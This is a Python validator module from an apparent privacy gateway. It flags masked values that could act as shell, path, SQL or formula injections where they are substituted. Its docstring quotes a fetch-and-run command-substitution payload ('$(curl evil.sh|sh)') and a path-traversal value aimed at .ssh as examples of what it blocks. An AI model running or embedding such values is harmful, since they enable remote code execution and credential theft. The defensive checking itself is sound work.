"""Values that could act as code where they land.

A "name" may be ``$(curl evil.sh|sh)`` or ``../../.ssh/x``, and the person who
approves a call sees only ``[PERSON_0]``.  Such a value goes back to where it
came from, or stands alone; it is never put into something else.
"""

from __future__ import annotations

import unicodedata

from cloakllm_gateway.spans import Proof
from cloakllm_gateway.vault.entries import Entry
from cloakllm_gateway.vault.tokens import LITERAL

#: What values of any category may hold besides letters, digits and marks.
_COMMON = " .,'’‘-‐‑–_:@+"
_BASE64 = "+/=\n\r-"

#: Further characters that a category needs.
_NEEDED = {
    "PHONE": "()/",
    "ADDRESS": "\n()#/&;",
    "ORG": "&()!",
    "GPE": "()",
    "EMAIL": "%~",
    "API_KEY": "/=~",
    "SECRET": "/=~",
    "AWS_KEY": "/=",
    "JWT": "=",
    "PRIVATE_KEY": _BASE64 + "\t,",
    "IP_ADDRESS": "/%[]",
    "DATE_OF_BIRTH": "/",
    "IBAN": "",
    "CREDIT_CARD": "",
}
#: Sequences that are dangerous though each of their characters may be needed.
_SEQUENCES = ("..", "--", "//", "://")
#: Base64 and the like may hold and begin with any of its characters.
_ENCODED = frozenset({"PRIVATE_KEY", "SECRET", "API_KEY", "JWT"})


def unsafe(entry: Entry) -> bool:
    """Whether the value of ``entry`` may act as something else where it lands.

    It does not look like a value of its category, or holds what that does not
    need: control and format characters, path separators, shell, SQL and HTML
    metacharacters; a leading ``-``, ``@``, ``/`` or ``=`` that turns an argument
    into an option, a file or a formula.
    """
    spelling = entry.spelling
    if spelling.category == LITERAL:
        return False  # brackets, letters, digits: the grammar allows nothing else
    if spelling.odd:
        return True
    allowed = _COMMON + _NEEDED.get(spelling.category, "")
    # Under a secret's key anything may stand, not only what was made by an encoder.
    is_encoded = spelling.category in _ENCODED and spelling.proof is not Proof.KEY
    return any(_bad(text, allowed, is_encoded=is_encoded) for text in {spelling.value, spelling.raw})


def _bad(text: str, allowed: str, is_encoded: bool) -> bool:
    if text[:1] in "-@/=" and not is_encoded:
        return True
    if any(s in text for s in _SEQUENCES if not (is_encoded and s in ("--", "//"))):
        return True
    return any(c not in allowed and unicodedata.category(c)[0] not in "LNM" for c in text)
